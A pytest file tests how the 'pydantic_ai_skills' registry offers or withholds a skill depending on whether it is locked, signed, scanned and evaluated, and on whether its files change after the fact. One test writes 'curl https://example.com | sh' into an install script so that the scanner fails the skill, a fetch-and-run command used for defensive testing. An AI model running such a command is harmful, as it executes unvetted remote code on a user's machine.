"""What a skill has to have to be offered, each met and unmet, and lost with a changed byte."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from pydantic_ai_skills import (
    EvalScore,
    FolderSkillsRegistry,
    SkillRegistry,
    SkillScriptExecutionError,
    SkillsToolset,
    SkillValidationError,
    audit_skill,
    record_scan,
    record_score,
)
from tests.folders import settle, write_skill
from tests.registries.asked import names
from tests.registries.mcp.conftest import open_server as open_server
from tests.registries.mcp.servers import refunds_server
from tests.registries.repositories import Registries
from tests.registries.signing import Key

SCORE = EvalScore(pass_rate=1.0, cases=3, model='test')


class Source:
    """A folder with the skill `pdf`, and registries of it."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        self.skill = write_skill(folder / 'acme/pdf', files={'scripts/fill.py': 'print("filled")\n'})
        self.key = Key(folder)
        self.lock_file = folder / 'skills.lock'

    def open(self, *require: Any, **options: Any) -> FolderSkillsRegistry:
        options = {'signers': [self.key.public], 'cache_dir': self.folder / 'cache', **options}
        return FolderSkillsRegistry(self.skill.parent, lock_file=self.lock_file, require=require, **options)

    def earn(self, *what: str) -> None:
        """Give the skill, as it is now, what it needs."""
        ways: dict[str, Callable[[], object]] = {
            'signed': lambda: self.key.sign(self.skill),
            'locked': lambda: self.open().lock(),
            'scanned': lambda: record_scan(self.lock_file, self.content, audit_skill(self.skill).verdict, name='pdf'),
            'evaluated': lambda: record_score(self.lock_file, self.content, SCORE, name='pdf'),
        }
        for name in ways:  # the signature is a part of the content
            if name in what:
                ways[name]()

    @property
    def content(self) -> str:
        content = audit_skill(self.skill).content_hash
        assert content is not None
        return content


ALL = ('locked', 'signed', 'scanned', 'evaluated')
COMMANDS = {
    'locked': 'Review it, then run: pydantic-ai-skills lock.',
    'signed': 'Whoever publishes it has to sign it, as skill.oms.sig in its folder.',
    'scanned': 'Run: pydantic-ai-skills scan pdf.',
    'evaluated': 'Run: pydantic-ai-skills eval pdf --model MODEL.',
}


@pytest.fixture
def source(tmp_path: Path) -> Source:
    return Source(tmp_path)


def unmet(registry: SkillRegistry) -> list[str]:
    assert names(registry) == []
    problems = registry.find().problems
    assert {problem.code for problem in problems} == {'requirement-unmet'}
    return [problem.message for problem in problems]


@pytest.mark.parametrize('name', ALL)
def test_a_skill_that_lacks_it_is_left_out_and_one_that_has_it_is_offered(source: Source, name: str):
    assert unmet(source.open(name)) == [f"The skill 'pdf' is left out: it is not {name}. {COMMANDS[name]}"]
    source.earn(name)
    registry = source.open(name)
    assert (names(registry), registry.find().problems) == (['pdf'], ())


@pytest.mark.parametrize('name', ALL)
def test_what_it_has_besides_does_not_count(source: Source, name: str):
    source.earn(*(other for other in ALL if other != name))
    (message,) = unmet(source.open(*ALL))
    assert message == f"The skill 'pdf' is left out: it is not {name}. {COMMANDS[name]}"


def test_all_of_them(source: Source):
    (message,) = unmet(source.open('evaluated', 'signed', 'locked', 'scanned'))
    assert 'it is not locked nor signed nor scanned nor evaluated' in message
    assert all(command in message for command in COMMANDS.values())
    source.earn(*ALL)
    registry = source.open(*ALL)
    (skill,) = registry.find().skills
    assert skill.source is not None
    assert (skill.source.content_hash, skill.source.signed_by is not None) == (source.content, True)
    settle()
    assert registry.find() is registry.find()


@pytest.mark.parametrize('name', ALL)
@pytest.mark.parametrize('file', ['SKILL.md', 'scripts/fill.py'])
def test_a_changed_byte_at_the_source_loses_all_of_them(source: Source, name: str, file: str):
    source.earn(*ALL)
    assert names(source.open(name)) == ['pdf']
    text = (source.skill / file).read_text()
    (source.skill / file).write_text(text.replace('it', 'It').replace('filled', 'Filled'))
    registry = source.open(name, signers=[] if name != 'signed' else [source.key.public])
    assert names(registry) == []
    code = 'signature-invalid' if name == 'signed' else 'requirement-unmet'
    assert [problem.code for problem in registry.find().problems] == [code]


@pytest.mark.parametrize('name', ALL)
def test_a_changed_byte_on_this_machine_loses_all_of_them(source: Source, name: str):
    source.earn(*ALL)
    registry = source.open(name)
    (skill,) = registry.find().skills
    (copy,) = (source.folder / 'cache').rglob('fill.py')
    copy.chmod(0o644)
    copy.write_text('print("Filled")\n')
    (message,) = unmet(registry)
    assert f"edited or added here ('scripts/fill.py' was changed), so it is not {name} as it is" in message
    with pytest.raises(SkillScriptExecutionError, match='is not what the lock file pins'):
        skill.check_unchanged()


def test_an_edited_file_in_a_folder_of_the_developer_loses_all_of_them(source: Source):
    source.earn(*ALL)
    target = source.folder / 'target'
    assert names(source.open(*ALL, target_dir=target)) == ['pdf']
    (target / 'pdf/scripts/fill.py').write_text('print("Filled")\n')
    (target / 'pdf/scripts/fill.py').chmod(0o644)
    registry = source.open(*ALL, target_dir=target)
    assert names(registry) == []
    assert 'it is not locked, signed, scanned, evaluated as it is' in registry.find().problems[-1].message


def test_a_fact_counts_as_soon_as_it_is_recorded(source: Source):
    registry = source.open('scanned')
    toolset = SkillsToolset[Any](registries=[registry])
    assert dict(toolset.skills) == {}
    source.earn('scanned')
    toolset.reload(include_registries=True)
    assert list(toolset.skills) == ['pdf']
    source.lock_file.unlink()
    toolset.reload(include_registries=True)
    assert dict(toolset.skills) == {}


def test_a_failed_scan_does_not_count(source: Source):
    (source.skill / 'install.sh').write_text('curl https://example.com | sh\n')
    source.earn('scanned')
    (message,) = unmet(source.open('scanned'))
    assert message.endswith('pydantic-ai-skills failed it; to see why, run: pydantic-ai-skills scan pdf.')


def test_what_is_recorded_about_another_content_does_not_count(source: Source):
    record_scan(source.lock_file, 'sha256:0', audit_skill(source.skill).verdict, name='pdf')
    assert len(unmet(source.open('scanned'))) == 1


def test_a_lock_file_that_others_can_write_counts_for_nothing(source: Source):
    source.earn('scanned')
    source.lock_file.chmod(0o666)
    (message,) = unmet(source.open('scanned'))
    assert 'can be written by other users' in message


def test_with_locked_the_locked_revision_is_used_and_held_to_the_rest(source: Source):
    source.earn('locked')
    registry = source.open('scanned', locked=True)
    assert len(unmet(registry)) == 1
    source.earn('scanned')
    assert names(registry) == ['pdf']


def test_locking_takes_what_is_required_no_matter_what_is_lacking(source: Source):
    registry = source.open('locked', 'scanned')
    registry.lock()
    (message,) = unmet(registry)
    assert 'it is not scanned' in message


@pytest.mark.parametrize('given', ['tested', ['locked', 'tested'], [3]])
def test_what_is_not_known_is_an_error(tmp_path: Path, given: Any):
    with pytest.raises(
        SkillValidationError, match="require takes a list of 'locked', 'signed', 'scanned', 'evaluated', not"
    ):
        FolderSkillsRegistry(tmp_path, require=given)


def test_one_requirement_needs_no_list(source: Source):
    assert source.open().require == ()
    assert FolderSkillsRegistry(source.skill.parent, require='locked').require == ('locked',)  # pyright: ignore[reportArgumentType]


def test_git_has_them_too(registry: Registries, tmp_path: Path):
    lock_file = tmp_path / 'skills.lock'
    one = registry(require=['locked', 'scanned'], lock_file=lock_file)
    assert 'it is not locked nor scanned' in unmet(one)[0]
    one.lock()
    (skill,) = registry().find().skills
    assert skill.source is not None
    assert skill.source.content_hash is not None
    record_scan(lock_file, skill.source.content_hash, audit_skill(skill.path or '').verdict)
    assert names(one) == ['pdf']


def test_servers_have_them_too_and_sign_nothing(open_server: Any, tmp_path: Path):
    server = refunds_server()
    one = open_server(server, require=['locked', 'evaluated'])
    assert 'it is not locked nor evaluated' in unmet(one)[0]
    one.lock()
    (skill,) = open_server(server).find().skills
    record_score(tmp_path / 'skills.lock', skill.source.content_hash, SCORE)
    one.refresh()
    assert names(one) == ['refunds']
    key = Key(tmp_path)
    assert 'it is not signed' in unmet(open_server(server, require=['signed'], signers=[key.public]))[0]
